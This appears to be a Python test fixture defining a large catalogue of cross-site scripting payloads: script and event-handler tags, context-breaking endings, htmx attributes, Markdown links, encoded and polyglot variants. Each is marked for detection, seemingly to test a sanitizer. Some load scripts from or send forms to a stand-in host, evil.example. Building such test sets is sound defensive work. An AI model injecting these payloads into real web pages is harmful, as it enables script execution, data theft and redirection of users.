"""What people put in fields to have a browser run it: each payload marks what it would make.

An element that comes alive carries ``data-xss``; a script that runs calls ``alert``. Shapes are those
of advisories of learning systems and of the usual cheat sheets, Markdown and htmx among them.
"""

from collections.abc import Sequence

EVIL = "evil.example"
MARK = 'data-xss="1"'

_ELEMENTS = (
    "<script {m}>alert(1)</script>",
    "<ScRiPt {m}>alert(1)</sCrIpT>",
    '<script {m} src="//{e}/x.js"></script>',
    "<script {m}>alert(1)//",
    "<<script {m}>alert(1)//<</script>",
    "<script\x0c{m}>alert(1)</script>",
    "<script {m} type=module>alert(1)</script>",
    "<img {m} src=x onerror=alert(1)>",
    "<img {m} src=x onerror=alert(1)//",
    "<img/{m}/src=x/onerror=alert(1)>",
    '<img {m} src="x:x" onerror="alert(1)">',
    "<IMG {m} SRC=x OnErRoR=alert(1)>",
    "<img {m} srcset=x onerror=alert(1)>",
    "<image {m} href=x onerror=alert(1)>",
    "<svg {m} onload=alert(1)>",
    "<svg/{m}/onload=alert(1)>",
    "<svg {m}><script>alert(1)</script></svg>",
    '<svg {m}><a href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "<svg {m}><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg {m}><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg {m}><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg {m}><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg {m}><style><img src=x onerror=alert(1)></style></svg>",
    "<math {m}><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<math {m} href="javascript:alert(1)">x</math>',
    "<body {m} onload=alert(1)>",
    "<body {m} onpageshow=alert(1)>",
    '<iframe {m} src="javascript:alert(1)"></iframe>',
    '<iframe {m} srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe {m} src="//{e}"></iframe>',
    '<object {m} data="javascript:alert(1)"></object>',
    '<object {m} data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed {m} src="javascript:alert(1)">',
    "<details {m} open ontoggle=alert(1)>x</details>",
    "<input {m} autofocus onfocus=alert(1)>",
    "<textarea {m} autofocus onfocus=alert(1)>",
    "<select {m} autofocus onfocus=alert(1)><option>x",
    "<keygen {m} autofocus onfocus=alert(1)>",
    "<button {m} popovertarget=x onclick=alert(1)>x</button>",
    "<video {m}><source onerror=alert(1)></video>",
    "<video {m} src=x onerror=alert(1)></video>",
    "<audio {m} src=x onerror=alert(1)></audio>",
    "<marquee {m} onstart=alert(1)>x</marquee>",
    '<a {m} href="javascript:alert(1)">x</a>',
    '<a {m} href="JaVaScRiPt:alert(1)">x</a>',
    '<a {m} href="java\tscript:alert(1)">x</a>',
    '<a {m} href="&#106;avascript:alert(1)">x</a>',
    '<a {m} href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a {m} href="vbscript:alert(1)">x</a>',
    '<a {m} href="//{e}" target=_top>x</a>',
    '<form {m} action="//{e}"><button>Go</button></form>',
    '<form {m} action="javascript:alert(1)"><button>Go</button></form>',
    '<button {m} form=lock formaction="//{e}">Go</button>',
    '<base {m} href="//{e}/">',
    '<meta {m} http-equiv=refresh content="0;url=//{e}">',
    '<meta {m} http-equiv=Content-Security-Policy content="script-src *">',
    '<link {m} rel=stylesheet href="//{e}/x.css">',
    '<link {m} rel=import href="//{e}/x.html">',
    "<style {m}>@import '//{e}/x.css';</style>",
    "<style {m}>*{{background:url(//{e}/x)}}</style>",
    '<div {m} style="position:fixed;inset:0;background:url(//{e}/x)">x</div>',
    "<div {m} onmouseover=alert(1) onpointerenter=alert(1)>x</div>",
    "<div {m} onanimationstart=alert(1)>x</div>",
    "<template {m}><script>alert(1)</script></template>",
    '<noscript {m}><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp {m}><img src=x onerror=alert(1)></xmp>",
    "<plaintext {m}>",
    "<frameset {m} onload=alert(1)>",
    '<table {m} background="javascript:alert(1)"><td>x',
    "<dialog {m} open onclose=alert(1)>x</dialog>",
    "<custom-thing {m} is=x onclick=alert(1)>x</custom-thing>",
    "<p {m} contenteditable onblur=alert(1)>x</p>",
)
_ENDINGS = (
    "</title><script {m}>alert(1)</script>",
    "</textarea><script {m}>alert(1)</script>",
    "</script><script {m}>alert(1)</script>",
    "</style><script {m}>alert(1)</script>",
    "</option></select><img {m} src=x onerror=alert(1)>",
    "</noscript><img {m} src=x onerror=alert(1)>",
    "</template><img {m} src=x onerror=alert(1)>",
    "</svg><img {m} src=x onerror=alert(1)>",
    "--><script {m}>alert(1)</script>",
    "--!><script {m}>alert(1)</script>",
    "]]><script {m}>alert(1)</script>",
    '"><script {m}>alert(1)</script>',
    "'><script {m}>alert(1)</script>",
    '" {m} onfocus=alert(1) autofocus x="',
    "' {m} onfocus=alert(1) autofocus x='",
    '" {m} onmouseover=alert(1) style="x" y="',
    "` {m} onmouseover=alert(1) x=`",
    '"/><img {m} src=x onerror=alert(1)><"',
    '\\"><img {m} src=x onerror=alert(1)>',
    "\"}}'><img {m} src=x onerror=alert(1)>",
)
_HTMX = (
    '<div {m} hx-get="//{e}" hx-trigger="load">x</div>',
    '<div {m} hx-on:load="alert(1)">x</div>',
    '<div {m} hx-on::load="alert(1)" data-hx-on:click="alert(1)">x</div>',
    '<div {m} hx-vals="js:{{x:alert(1)}}" hx-get="/" hx-trigger="load">x</div>',
    '<div {m} hx-headers:inherited=\'{{"X-CSRF-Token":"x"}}\'>x</div>',
    '<hx-partial {m} hx-target="#main"><img src=x onerror=alert(1)></hx-partial>',
    '" {m} hx-get="//{e}" hx-trigger="load" x="',
    '<div {m} data-submit data-autosave="//{e}">x</div>',
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '![x](x "onerror=alert(1) {m}")',
    '![x" onerror="alert(1)" {m}](x)',
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](http://ok.example "\\" onmouseover=alert(1) {m}")',
    "`<img {m} src=x onerror=alert(1)>`",
    '```"><img {m} src=x onerror=alert(1)>\n```',
    "[<img {m} src=x onerror=alert(1)>](/x)",
    "{{#x {m} onclick=alert(1)}}",
    '::: type {{#x onclick="alert(1)"}}',
)
_MACHINES = (
    "{{{{ 7*7 }}}}{{% print(1) %}}<i {m}>",
    "${{alert(1)}}<i {m}>",
    "%3Cscript {m}%3Ealert(1)%3C/script%3E",
    "&lt;script {m}&gt;alert(1)&lt;/script&gt;",
    "\\u003cimg {m} src=x onerror=alert(1)\\u003e",
    "＜script {m}＞alert(1)＜/script＞",
    "<\u200bscript {m}>alert(1)</script>",
    "\u202e<img {m} src=x onerror=alert(1)>",
    '=HYPERLINK("javascript:alert(1)","x")<i {m}>',
    "javascript:alert(1)//",
    "javascript:/*--></title></style></textarea></script><svg {m} onload=alert(1)//>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//<svg {m} oNloAd=alert(1)//>",
)


def written(shapes: Sequence[str]) -> tuple[str, ...]:
    """Return payloads with their mark and their place of evil."""
    return tuple(shape.format(m=MARK, e=EVIL) for shape in shapes)


ALL = written((*_ELEMENTS, *_ENDINGS, *_HTMX, *_MARKDOWN, *_MACHINES))
FEW = written((*_ELEMENTS[::4], *_ENDINGS[::2], *_HTMX[::2], *_MARKDOWN[::2], *_MACHINES[::2]))
"""One in two or four of each shape: what each commit is tried with."""
SHORT = (
    f"<b {MARK}>",
    f"<a {MARK} onclick=x>",
    f'"{MARK} x="',
)
"""For fields of a few letters."""
